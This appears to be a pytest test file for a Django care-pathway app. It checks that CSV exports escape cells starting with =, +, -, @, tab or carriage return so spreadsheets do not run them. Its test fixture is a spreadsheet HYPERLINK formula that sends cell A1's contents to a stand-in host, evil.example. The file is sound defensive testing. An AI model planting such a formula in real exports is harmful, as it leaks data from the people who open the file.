"""Spreadsheets that do not run formulas: CSV files for people escape cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy

from carepath import spreadsheets
from carepath.pathways import services
from carepath.pathways.models import Step
from tests.conftest import PASSWORD

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3", "'-3"),  # text that looks like a number is text
        ("Intake = first visit", "Intake = first visit"),  # only the first character counts
        ("", ""),
        (gettext_lazy("=1+1"), "'=1+1"),
    ],
)
def test_spreadsheets_do_not_run_formulas_text_cells(cell, written):
    assert spreadsheets.escape(cell) == written


@pytest.mark.parametrize("number", [-3, -2.5, Decimal("-1.25"), 0, 7, True, None])
def test_spreadsheets_do_not_run_formulas_numbers_stay_numbers(number):
    assert spreadsheets.escape(number) is number


def test_spreadsheets_do_not_run_formulas_writer_escapes_every_cell():
    out = io.StringIO()
    writer = spreadsheets.writer(out, lineterminator="\n")
    writer.writerow(["step", FORMULA, -4, "-4"])
    writer.writerows([["@cmd", 1.5], ["plain", None]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["step", "'" + FORMULA, "-4", "'-4"],
        ["'@cmd", "1.5"],
        ["plain", ""],
    ]


@pytest.mark.django_db
def test_spreadsheets_do_not_run_formulas_in_the_gap_report(client, community, member):
    published = services.publish_template(community=community)
    Step.objects.filter(version=published, key="intake-navigation").update(title_en=FORMULA)
    client.login(username=member.username, password=PASSWORD)
    response = client.get("/en/communities/lakeside/pathway/gaps/?format=csv")
    rows = {row[0]: row for row in csv.reader(io.StringIO(response.content.decode()))}
    assert rows["intake-navigation"][1] == "'" + FORMULA
    assert not any(cell.startswith("=") for row in rows.values() for cell in row)


def test_spreadsheets_do_not_run_formulas_a_semicolon_reader_keeps_text_in_one_cell():
    """French Canadian Excel splits lines on ";": a quoted text cell stays one cell, so "=1+1" never starts one."""
    out = io.StringIO()
    spreadsheets.writer(out).writerow(["Well-child visit;=1+1;@SUM(1+1)", 3])
    assert out.getvalue() == '"Well-child visit;=1+1;@SUM(1+1)",3\r\n'
    [cells] = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert not any(cell.startswith(("=", "@", "+", "-")) for cell in cells)
